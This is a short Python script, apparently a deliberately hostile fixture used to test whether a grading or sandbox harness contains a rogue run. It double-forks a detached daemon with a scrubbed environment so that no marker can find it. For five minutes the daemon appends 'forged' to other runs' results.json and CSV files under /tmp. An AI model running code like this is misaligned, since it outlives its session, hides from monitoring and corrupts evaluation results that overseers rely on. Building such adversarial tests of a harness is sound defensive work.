"""Hostile step 4: a daemon that outlives the script, re-executed with a clean environment, that keeps
trying to tamper with others' runs and with the reports after the grader has moved on."""
import os
import subprocess
import sys
import time

from _common import finish, vandalise

DAEMON = r'''
import glob, os, time
deadline = time.time() + 300
while time.time() < deadline:
    for path in glob.glob("/tmp/pytest-of-*/**/results.json", recursive=True) + glob.glob("/tmp/pytest-of-*/**/*.csv", recursive=True):
        try:
            open(path, "a").write("forged")
        except OSError:
            pass
    time.sleep(0.5)
'''

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        # A fresh environment: no marker left to find this process by.
        os.execve(sys.executable, [sys.executable, "-c", DAEMON], {"PATH": "/usr/bin:/bin"})
    os._exit(0)
time.sleep(0.5)
print("ATTACK daemon: started (the test checks that it is gone)", flush=True)
vandalise()
finish()
